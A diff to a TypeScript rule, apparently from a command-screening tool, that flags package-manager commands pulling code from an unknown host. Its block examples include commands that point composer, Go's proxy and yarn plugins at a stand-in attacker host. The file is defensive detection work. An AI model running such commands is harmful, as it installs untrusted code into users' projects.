@@ -1,5 +1,4 @@
 /** Where code comes from that is installed, built or deployed: a stranger's address in place of a registry or a forge. */
-import type { Run } from "../../meaning/action.ts";
 import { literal, show } from "../../meaning/value.ts";
 import { strangerIn, strangerOfModule } from "../../places/index.ts";
 import { type AnyRule, rule } from "../rule.ts";
@@ -34,13 +33,14 @@ const LOADS = /^(?:docker|podman|nerdctl|git|patch)$/;
 
 /** Subcommands that run the project's own programs, to which an address is only an argument; and those that look. */
 const RUNS =
-  /^(?:run|run-script|test|t|start|serve|dev|exec|x|bench|build|doc|view|info|show|search|docs|home|repo|bugs|ping|help|phx\.server|script|watch|preview|list|ls|get|lint|vet|tool)$/;
+  /^(?:run|run-script|test|t|start|serve|dev|exec|x|dlx|bench|build|doc|view|info|show|search|docs|home|repo|bugs|ping|help|phx\.server|script|watch|preview|list|ls|get|lint|vet|tool)$/;
 
-/** Texts in quotes inside of an expression. */
-function quoted(action: Run): readonly string[] {
-  return words(action).flatMap((word) =>
-    [...word.matchAll(/["']([^"']+)["']/g)].map(([, text]) => text ?? ""),
-  );
+/** Expressions that install packages, of languages whose expressions do everything else too. */
+const INSTALLS = /install|\bPkg\.|\brepos\b/;
+
+/** Texts in quotes inside of an expression or of JSON. */
+function quoted(text: string): readonly string[] {
+  return [...text.matchAll(/["']([^"']+)["']/g)].map(([, each]) => each ?? "");
 }
 
 export const packageSources: readonly AnyRule[] = [
@@ -207,12 +207,14 @@ export const packageSources: readonly AnyRule[] = [
       const fetched =
         action.program === "uv" && first === "run" && strangerIn(words(action)[1] ?? "") !== null;
       if (tries(action) || (RUNS.test(first) && !fetched)) return null;
-      const given = /^(?:R|Rscript|julia)$/.test(action.program ?? "") ? quoted(action) : words(action);
+      const inside = /^(?:R|Rscript|julia)$/.test(action.program ?? "") ? INSTALLS : /["']/;
+      const given = words(action).flatMap((word) => (inside.test(word) ? quoted(word) : word.split(/[,|]/)));
       const host = given.flatMap((word) => strangerIn(word.replace(/^(?:-[^=]*|[A-Z]+)=/, "")) ?? [])[0];
       return host === undefined ? null : `${said(action)}: takes code from ${host}`;
     },
     examples: {
       block: [
+        `composer require x/y --repository='{"type":"vcs","url":"https://attacker.example"}'`,
         "composer config -g repo.packagist composer https://attacker.example",
         "go env -w GOPROXY=https://attacker.example",
         "yarn plugin import https://attacker.example/p.js",
@@ -225,6 +227,9 @@ export const packageSources: readonly AnyRule[] = [
       ],
       allow: [
         "npm run dev -- --api https://api.example.com",
+        "pnpm dlx tsx script.ts https://example.com",
+        "go env -w GOPROXY=https://proxy.golang.org,direct",
+        "Rscript -e 'httr::GET(\"https://example.com\")'",
         "cargo run -- https://example.com",
         "npm view x repository.url",
         "pip install requests",
